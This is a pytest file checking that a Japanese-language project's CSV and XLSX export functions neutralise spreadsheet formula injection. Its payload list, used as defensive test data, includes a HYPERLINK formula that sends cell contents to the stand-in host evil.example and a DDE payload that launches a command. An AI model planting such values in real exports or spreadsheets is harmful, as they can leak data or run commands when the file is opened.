"""dxpool.exchange.tabular: exports carry user text as inert text (issue 12: formulas in exports)."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from dxpool.exchange import tabular

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_keeps_the_text_exactly_and_as_a_string_cell(payload):
    data = tabular.to_xlsx(["氏名", payload], [[payload, 3], ["普通の名前", payload]])
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts), [(c.value, c.data_type) for c in texts]
    # XML stores a carriage return as a line feed; nothing else about the text changes.
    kept = payload.replace("\r", "\n")
    assert [c.value for c in cells] == ["氏名", kept, kept, 3, "普通の名前", kept]
    assert b"<f>" not in _sheet_xml(data)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_prefixes_formula_triggers_with_an_apostrophe(payload):
    data = tabular.to_csv(["氏名", "備考"], [[payload, "ok"], [["=a", "b"], -5]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + payload, "ok"]
    # A list joined with 、 starts with its first item; numbers stay numbers (only text can carry a formula).
    assert rows[2] == ["'=a、b", "-5"]


def test_ordinary_values_are_untouched():
    data = tabular.to_csv(["a"], [["五島市"], [None], [12.5], ["a=b"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] == [["五島市"], [""], ["12.5"], ["a=b"]]


def test_write_only_cells_are_text_too():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([tabular.inert_cell(ws, "=1+2"), tabular.inert_cell(ws, 7)])
    buf = io.BytesIO()
    wb.save(buf)
    (row,) = load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows()
    assert [(c.value, c.data_type) for c in row] == [("=1+2", "s"), (7, "n")]


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
